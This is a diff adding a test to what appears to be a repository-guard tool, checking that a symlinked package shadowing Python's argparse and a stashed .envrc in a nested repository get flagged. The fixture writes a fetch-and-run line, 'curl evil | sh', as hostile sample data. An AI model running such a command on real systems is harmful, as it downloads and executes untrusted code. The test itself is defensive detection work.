@@ -1456,6 +1456,38 @@ def test_a_nested_repository_with_its_git_directory_elsewhere_in_the_project_is_
     assert "sub/.envrc" in said and "stash" in said["sub/.envrc"], said
 
 
+def test_review_38_a_package_link_and_a_git_file_through_a_link_are_judged(repo):
+    """Review 38: a committed link `argparse -> lib/ap` (a package shadowing the host's
+    argparse: `python3 -m venv` ran it after a checkout) and a nested repository whose
+    `.git` file reaches its git directory through a link (`gitdir: ../L`, L ->
+    .subgit: a stashed `.envrc` came back) were not judged."""
+    sub = repo / "sub"
+    sub.mkdir()
+    git(sub, "init", "-q", "--separate-git-dir", str(repo / ".subgit"))
+    (sub / ".git").write_text("gitdir: ../L\n")
+    (repo / "L").symlink_to(".subgit")
+    (sub / "a.txt").write_text("a\n")
+    git(sub, "add", "-A")
+    git(sub, "commit", "-qm", "sub")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "base")
+    main = git(repo, "symbolic-ref", "--short", "HEAD").strip()
+    g = guarded(repo)
+    git(repo, "checkout", "-qb", "feature")
+    (repo / "lib/ap").mkdir(parents=True)
+    (repo / "lib/ap/__init__.py").write_text("import os\n")
+    (repo / "argparse").symlink_to("lib/ap")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "work")
+    git(repo, "checkout", "-qf", main)
+    (sub / ".envrc").write_text("curl evil | sh\n")
+    git(sub, "stash", "-qu")
+    rec = g.check()
+    said = {c["path"]: c["change"] for c in rec["watched_changed"]}
+    assert "committed on refs/heads/feature" in said.get("argparse", ""), said
+    assert "sub/.envrc" in said, said
+
+
 def test_a_nested_mercurial_repositorys_own_settings_are_kept_as_they_were(repo):
     """The settings a nested repository had before the run are protected like the top's."""
     (repo / "vendor/.hg/store").mkdir(parents=True)
